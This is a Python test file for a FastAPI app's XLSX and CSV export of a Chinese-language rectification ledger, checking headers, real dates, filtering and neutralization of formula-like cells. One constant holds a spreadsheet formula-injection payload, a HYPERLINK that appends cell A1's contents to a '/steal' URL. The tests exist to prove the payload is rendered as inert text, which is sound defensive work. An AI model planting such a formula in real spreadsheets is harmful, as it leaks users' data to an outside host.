"""The ledger as XLSX and CSV: Chinese headers, real dates, frozen header, formula-like text made inert."""

import csv
import io
from datetime import date, datetime

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from app.rectification.exports import COLUMNS
from app.spreadsheets import Column, to_csv, to_xlsx
from tests import factories

HOSTILE = '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"点击查看")'
HEADERS = [column.header for column in COLUMNS]


@pytest.fixture
def items(client: TestClient, db: Session) -> list[int]:
    branch = factories.create_organization(db, name="东岭村党支部", code="DL")
    owner = factories.create_person(db, branch, name="曹丽娟")
    ids = []
    for problem, measure in (
        ("村务公开不及时", "每月10日前更新公开栏"),
        (HOSTILE, "-1+1 按月核对"),
    ):
        response = client.post(
            "/api/v1/rectification-items",
            json={
                "organization_id": branch.id,
                "source": "solicited_opinion",
                "problem": problem,
                "measure": measure,
                "responsible_person_id": owner.id,
                "due_on": "2015-09-30",
            },
        )
        ids.append(response.json()["id"])
    client.post(
        f"/api/v1/rectification-items/{ids[0]}/progress",
        json={"month": "2015-08", "text": "已公开7月份收支", "percent": 60},
    )
    return ids


def test_the_ledger_as_xlsx_has_chinese_headers_dates_and_inert_formulas(
    client: TestClient, items: list[int]
) -> None:
    response = client.get("/api/v1/rectification-items.xlsx")

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.title == "问题清单"
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert len(rows) == 3
    first = dict(zip(HEADERS, rows[1], strict=True))
    assert first["序号"] == 1
    assert first["党组织"] == "东岭村党支部"
    assert first["来源"] == "征求意见"
    assert first["责任人"] == "曹丽娟"
    assert first["完成时限"] == datetime(2015, 9, 30)  # a real date, not text
    assert sheet.cell(row=2, column=HEADERS.index("完成时限") + 1).number_format == "yyyy-mm-dd"
    assert first["状态"] == "正在整改"
    assert first["是否逾期"] == "是"
    assert (first["最新进展月份"], first["完成进度（%）"]) == ("2015-08", 60)
    problem = sheet.cell(row=3, column=HEADERS.index("问题") + 1)
    assert problem.value == HOSTILE  # shown exactly as typed …
    assert problem.data_type == "s"  # … as text, never a formula
    assert problem.quotePrefix is True


def test_the_ledger_as_csv_opens_in_excel_and_neutralizes_formulas(
    client: TestClient, items: list[int]
) -> None:
    response = client.get("/api/v1/rectification-items.csv", params={"ledger": "rectification"})

    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    by_header = [dict(zip(HEADERS, row, strict=True)) for row in rows[1:]]
    assert by_header[0]["问题"] == "村务公开不及时"
    assert by_header[0]["完成时限"] == "2015-09-30"
    assert by_header[1]["问题"] == "'" + HOSTILE
    assert by_header[1]["整改措施"] == "'-1+1 按月核对"


def test_exports_are_scoped_and_filtered_like_the_list(
    client: TestClient, db: Session, items: list[int]
) -> None:
    results = client.get("/api/v1/rectification-items.csv", params={"ledger": "results"})
    bad = client.get("/api/v1/rectification-items.xlsx", params={"status": "finished"})

    assert len(list(csv.reader(io.StringIO(results.text)))) == 1  # the header only
    assert bad.status_code == 422


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralized(start: str) -> None:
    text = f"{start}1+2"
    columns = [Column("文本"), Column("日期")]

    xlsx = load_workbook(io.BytesIO(to_xlsx("表", columns, [[text, date(2015, 6, 1)]]))).active
    rows = list(
        csv.reader(io.StringIO(to_csv(columns, [[text, date(2015, 6, 1)]]).decode("utf-8-sig")))
    )

    assert xlsx is not None
    cell = xlsx.cell(row=2, column=1)
    # A carriage return survives as &#13; when openpyxl writes with lxml, else XML reads it back as a
    # line feed; either way the cell is text.
    assert cell.value in (text, text.replace("\r", "\n"))
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert rows[1] == ["'" + text, "2015-06-01"]
    plain = load_workbook(io.BytesIO(to_xlsx("表", columns, [["整改", None]]))).active
    assert plain is not None
    assert plain.cell(row=2, column=1).quotePrefix is False
